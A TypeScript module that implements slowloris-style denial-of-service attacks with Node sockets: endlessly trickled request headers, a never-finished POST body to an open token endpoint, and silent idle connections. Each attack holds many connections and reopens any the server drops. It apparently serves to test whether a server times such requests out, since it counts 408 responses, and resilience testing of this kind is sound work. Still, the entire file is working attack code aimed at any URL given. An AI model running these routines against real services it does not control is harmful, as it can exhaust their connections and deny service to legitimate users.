import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

export interface SlowAttack {
  /** How many connections are held at once; one that the server closes is opened again. */
  connections: number;
  signal: AbortSignal;
  /** Pause between two bytes. */
  everyMs?: number;
}

export interface SlowOutcome {
  opened: number;
  /** Connections that the server ended with 408. */
  timedOut: number;
  /** How long the longest connection stayed open. */
  longestMs: number;
}

/** @param bytes what is sent, one byte at a time; the head is sent at once */
async function hold(socket: Socket, { head, bytes }: { head: string; bytes: string }, attack: SlowAttack) {
  let text = '';
  socket.on('data', (chunk) => {
    text += chunk;
  });
  socket.on('error', () => undefined);
  const closed = new AbortController();
  socket.once('close', () => closed.abort());
  socket.write(head);
  const signal = AbortSignal.any([attack.signal, closed.signal]);
  for (let n = 0; !signal.aborted; n++) {
    if (bytes !== '' && socket.writable) socket.write(bytes[n % bytes.length] ?? ' ');
    await pause(attack.everyMs ?? 500, undefined, { signal }).catch(() => undefined);
  }
  socket.destroy();
  return text;
}

async function attackWith(url: string, what: { head: string; bytes: string }, attack: SlowAttack) {
  const { hostname, port } = new URL(url);
  const outcome: SlowOutcome = { opened: 0, timedOut: 0, longestMs: 0 };
  const one = async () => {
    while (!attack.signal.aborted) {
      const began = performance.now();
      outcome.opened += 1;
      const text = await hold(connect(Number(port), hostname), what, attack);
      const lasted = performance.now() - began;
      outcome.longestMs = Math.max(outcome.longestMs, lasted);
      // A server that is down, or full, is not asked again at once.
      if (lasted < 100) await pause(100);
      if (text.startsWith('HTTP/1.1 408')) outcome.timedOut += 1;
    }
  };
  await Promise.all(Array.from({ length: attack.connections }, one));
  return outcome;
}

/** Requests whose headers never end. */
export const slowHeaders = (url: string, attack: SlowAttack): Promise<SlowOutcome> =>
  attackWith(url, { head: 'GET / HTTP/1.1\r\nhost: x\r\nx-slow: ', bytes: 'a' }, attack);

/** Requests whose bodies never end, at an endpoint that anybody may call. */
export const slowBodies = (url: string, attack: SlowAttack): Promise<SlowOutcome> => {
  const lines = ['POST /v1/auth/token HTTP/1.1', 'host: x', 'content-type: application/json'];
  const head = `${[...lines, 'content-length: 1000000'].join('\r\n')}\r\n\r\n{`;
  return attackWith(url, { head, bytes: ' ' }, attack);
};

/** Connections on which nothing is ever sent. */
export const silentConnections = (url: string, attack: SlowAttack): Promise<SlowOutcome> =>
  attackWith(url, { head: '', bytes: '' }, attack);
